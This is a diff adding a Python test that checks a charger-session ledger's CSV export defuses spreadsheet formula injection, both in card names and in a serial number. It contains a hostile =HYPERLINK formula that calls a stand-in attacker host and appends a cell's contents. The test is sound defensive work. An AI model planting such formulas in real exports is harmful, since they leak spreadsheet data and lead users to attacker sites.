@@ -290,3 +290,29 @@ def test_the_sessions_command_filters_by_charger_day_and_card(
     ]
     assert main(["sessions", "--config", str(config), "--since", "30.11.2026"]) == 2
     ledger.store.close()
+
+
+def test_a_card_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() -> None:
+    # Card names come from the charger (whoever names cards in the app); the CSV is
+    # made for a spreadsheet, which runs a cell beginning = + - @ as a formula
+    # (CSV injection: =HYPERLINK(...) sends whoever clicks to a stranger's site).
+    import csv
+    import io
+
+    from goe2mqtt.ledger.record import Session
+    from goe2mqtt.ledger.report import as_csv, summary_text
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
+    session = Session(id="garage-1", charger="garage", serial="+43123", started=T0,
+                      eto_start=0.0, eto_last=1000.0, seen_at=T0, currency="EUR",
+                      priced=True, card=hostile, card_slot=1, cost_so_far=-0.5)  # fmt: skip
+    [row] = list(csv.DictReader(io.StringIO(as_csv([session], T0))))
+    assert row["card"] == "'" + hostile
+    assert row["serial"] == "'+43123"
+    assert row["cost"] == "-0.50"  # a number stays a number, negative or not
+    assert row["energy_wh"] == "1000.0"
+    text = summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, -0.5, 0)], "month,card", "csv")
+    assert text.splitlines()[1] == "2026-11,'@SUM(1),1,1.000,1.000,0.000,-0.50,0"
+    # JSON is not a spreadsheet: the name stays as the charger gave it.
+    assert summary_text([("2026-11", "@SUM(1)", 1, 1.0, 1.0, 0.0, 0.5, 0)], "month,card",
+                        "json").count('"@SUM(1)"') == 1  # fmt: skip
